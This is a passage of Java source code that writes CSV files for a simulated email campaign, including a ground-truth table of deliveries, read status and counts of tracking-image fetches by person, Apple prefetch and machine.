            d.bounced() ? "bounced" : "delivered");
      }
      return csv.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] truth(List<Delivery> deliveries) {
      StringBuilder csv = new StringBuilder();
      csv.append("message,campaign,variant,style,client,status,truth,read,person_image_fetches,");
      csv.append("person_other_fetches,apple_at_open_fetches,prefetches,machine_fetches\n");
      for (Delivery d : deliveries) {
        row(
            csv,
            d.token,
            d.campaign.id(),
            d.variant.name(),
            d.variant.style(),
            d.recipient.client().label(),
            d.bounced() ? "bounced" : "delivered",
            d.truth(),
            d.read ? "yes" : "no",
            d.fetched(Fetch.PERSON_IMAGE),
            d.fetched(Fetch.PERSON_DOWNLOAD) + d.fetched(Fetch.PERSON_DOWNLOAD_UNLOGGED_AGENT),
            d.fetched(Fetch.APPLE_AT_OPEN),
            d.fetched(Fetch.PREFETCH),
            d.fetched(Fetch.MACHINE));
      }
      return csv.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static void row(StringBuilder csv, Object... fields) {
      csv.append(Arrays.stream(fields).map(Output::quoted).collect(Collectors.joining(",")));
      csv.append('\n');
    }

    private static String quoted(Object field) {
      String text = field.toString();
      if (text.contains(",") || text.contains("\"")) {
        return '"' + text.replace("\"", "\"\"") + '"';
      }
      return text;
    }
  }
}
